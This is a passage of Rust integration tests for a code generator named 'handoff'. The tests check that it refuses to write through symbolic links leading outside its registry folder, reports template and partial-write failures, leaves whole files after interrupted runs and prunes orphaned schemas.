        &["generate", "--force"],
        &["generate", "--check"],
    ] {
        let run = handoff(dir, args);
        assert_eq!(run.code, 1, "{args:?}: {}{}", run.stdout, run.stderr);
        for path in paths {
            let refused =
                format!("{path}: refused: the path resolves outside the registry's folder");
            assert!(run.stdout.contains(&refused), "{args:?}: {}", run.stdout);
        }
    }
}

/// With an output folder a symbolic link to a folder outside the registry's folder, generate
/// writes nothing there and says so.
#[test]
fn output_through_a_link_leaving_the_registry_folder_is_refused() {
    let tmp = repo_copy();
    let outside = tempfile::tempdir().unwrap();
    let schemas = tmp.path().join("docs/schemas");
    std::fs::remove_dir_all(&schemas).unwrap();
    std::os::unix::fs::symlink(outside.path(), &schemas).unwrap();
    assert_refused(tmp.path(), &["docs/schemas/subjects.schema.json"]);
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
    // A link that stays inside is fine.
    std::fs::remove_file(&schemas).unwrap();
    std::fs::create_dir_all(tmp.path().join("real-schemas")).unwrap();
    std::os::unix::fs::symlink("../real-schemas", &schemas).unwrap();
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
}

/// A template that fails to render (here an override in `templates/` naming a value the context
/// does not have) fails `generate` and `generate --check` with exit 3 and a message naming the
/// template, its line and the expression, and the file it renders is left as it was.
#[test]
fn a_template_that_fails_to_render_fails_generate_and_names_it() {
    let tmp = repo_copy();
    let templates = tmp.path().join("templates");
    std::fs::create_dir_all(&templates).unwrap();
    std::fs::write(
        templates.join("publishers.py.j2"),
        "# handoff:sha256=0000000000000000000000000000000000000000000000000000000000000000\n{{ registry.no_such_value }}\n",
    )
    .unwrap();
    let publishers = tmp.path().join("stubs/statehub_events/publishers.py");
    let before = read(&publishers);
    for args in [&["generate"][..], &["generate", "--check"]] {
        let run = handoff(tmp.path(), args);
        assert_eq!(run.code, 3, "{args:?}: {}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains(
                "template error: undefined value (in publishers.py.j2:2): `registry.no_such_value`"
            ),
            "{args:?}: {}",
            run.stderr
        );
    }
    assert_eq!(read(&publishers), before);
}

/// A generated file that is itself a symbolic link leading outside the registry's folder (to a
/// file, or to nothing yet) is refused, in a folder generate otherwise reads from one listing.
#[test]
fn a_generated_file_linked_outside_the_registry_folder_is_refused() {
    let tmp = repo_copy();
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("secret.json");
    std::fs::write(&target, "kept\n").unwrap();
    let schema = tmp.path().join("docs/schemas/subjects.schema.json");
    let def = tmp
        .path()
        .join("docs/schemas/activity-definition.schema.json");
    std::fs::remove_file(&schema).unwrap();
    std::fs::remove_file(&def).unwrap();
    std::os::unix::fs::symlink(&target, &schema).unwrap();
    std::os::unix::fs::symlink(outside.path().join("not-yet.json"), &def).unwrap();
    assert_refused(
        tmp.path(),
        &[
            "docs/schemas/subjects.schema.json",
            "docs/schemas/activity-definition.schema.json",
        ],
    );
    assert_eq!(read(&target), "kept\n");
    assert!(!outside.path().join("not-yet.json").exists());
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
}

/// When some files cannot be written, the others still are, and the output says exactly which
/// were written and which were not; the exit code is 3.
#[test]
fn a_partial_failure_says_what_was_and_was_not_written() {
    let tmp = repo_copy();
    let reg = read(&tmp.path().join("subjects.toml")).replace(
        "A repository was registered with the state hub.",
        "A repository was registered.",
    );
    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
    // The Python package's folder is a file: nothing can be written into it.
    let python = tmp.path().join("stubs/statehub_events");
    std::fs::remove_dir_all(&python).unwrap();
    std::fs::write(&python, "not a folder\n").unwrap();
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains("wrote docs/nats-event-subjects.md"),
        "{}",
        run.stdout
    );
    for f in ["__init__.py", "publishers.py", "py.typed", "runtime.py"] {
        assert!(
            run.stdout.contains(&format!(
                "stubs/statehub_events/{f}: not written: cannot create"
            )),
            "{f}: {}",
            run.stdout
        );
    }
    assert!(run.stderr.contains("4 not written"), "{}", run.stderr);
}

/// Temporary files are named `.handoff-tmp-*`; one left by an interrupted run (kill -9) is
/// removed by the next. Interrupting generate at random points never leaves a partial file.
#[test]
fn interrupted_runs_leave_whole_files_and_their_leftovers_are_cleaned() {
    let tmp = repo_copy();
    for dir in ["docs/schemas", "stubs/statehub_events", "definitions", "."] {
        std::fs::write(tmp.path().join(dir).join(".handoff-tmp-abc123"), "half").unwrap();
    }
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let mut files = Vec::new();
    collect(tmp.path(), &mut files);
    assert!(
        !files
            .iter()
            .any(|f| f.to_string_lossy().contains(".handoff-tmp-")),
        "{files:?}"
    );

    // Kill generate at staggered moments; every generated file is whole, any leftover is a
    // `.handoff-tmp-` file, and the next run leaves none.
    let reg = tmp.path().join("subjects.toml");
    let generated: Vec<String> = read(&repo().join(".handoff-manifest"))
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(str::to_string)
        .collect();
    assert!(generated.len() >= 14);
    for i in 0..12u64 {
        let text = read(&reg).replace("registered with", &format!("registered ({i}) with"));
        std::fs::write(&reg, text).unwrap();
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_handoff"))
            .arg("generate")
            .current_dir(tmp.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(2 + i * 4));
        let _ = child.kill();
        let _ = child.wait();
        let mut files = Vec::new();
        collect(tmp.path(), &mut files);
        for f in &files {
            let name = f.file_name().unwrap().to_string_lossy();
            assert!(
                !name.starts_with(".tmp"),
                "unrecognisable leftover {}",
                f.display()
            );
            let rel = f
                .strip_prefix(tmp.path())
                .unwrap()
                .to_string_lossy()
                .to_string();
            if generated.contains(&rel) {
                let text = read(f);
                assert!(
                    handoff::generate::seal_intact(&text) != Some(false),
                    "{} is partial",
                    f.display()
                );
            }
        }
    }
    let run = handoff(tmp.path(), &["generate"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let mut files = Vec::new();
    collect(tmp.path(), &mut files);
    assert!(
        !files
            .iter()
            .any(|f| f.to_string_lossy().contains(".handoff-tmp-")),
        "{files:?}"
    );
    assert_eq!(handoff(tmp.path(), &["generate", "--check"]).code, 0);
}

/// A tree generated before the manifest existed: sealed files in the owned folders stand in
/// for it, so a renamed subject's schema is still found as an orphan.
#[test]
fn without_a_manifest_sealed_files_in_owned_folders_are_found_as_orphans() {
    let tmp = repo_copy();
    std::fs::remove_file(tmp.path().join(".handoff-manifest")).unwrap();
    let reg = read(&tmp.path().join("subjects.toml"))
        .replace("org.statehub.task.stale", "org.statehub.task.overdue");
    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
    let check = handoff(tmp.path(), &["generate", "--check"]);
    assert!(
        check
            .stdout
            .contains("docs/schemas/org.statehub.task.stale.schema.json: orphan"),
        "{}",
        check.stdout
    );
    assert_eq!(handoff(tmp.path(), &["generate", "--prune"]).code, 0);
    assert!(
        !tmp.path()
            .join("docs/schemas/org.statehub.task.stale.schema.json")
            .exists()
    );
}

/// Moving an `[output]` folder and pruning removes the old folder once it is empty.
#[test]
fn pruning_a_moved_output_folder_removes_the_empty_folder() {
    let tmp = repo_copy();
    // This repository keeps hand-written schemas (of handoff's own JSON output) beside the
    // generated ones; here the folder holds generated files only, so pruning empties it.
    std::fs::remove_dir_all(tmp.path().join("docs/schemas/output")).unwrap();
    let reg = read(&tmp.path().join("subjects.toml"))
        .replace("schemas = \"docs/schemas\"", "schemas = \"docs/json\"");
    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
    let run = handoff(tmp.path(), &["generate", "--prune"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(!tmp.path().join("docs/schemas").exists(), "{}", run.stdout);
    assert!(tmp.path().join("docs/json/subjects.schema.json").exists());
    assert!(tmp.path().join("docs/nats-event-subjects.md").exists());
    assert_eq!(handoff(tmp.path(), &["generate", "--check"]).code, 0);
}
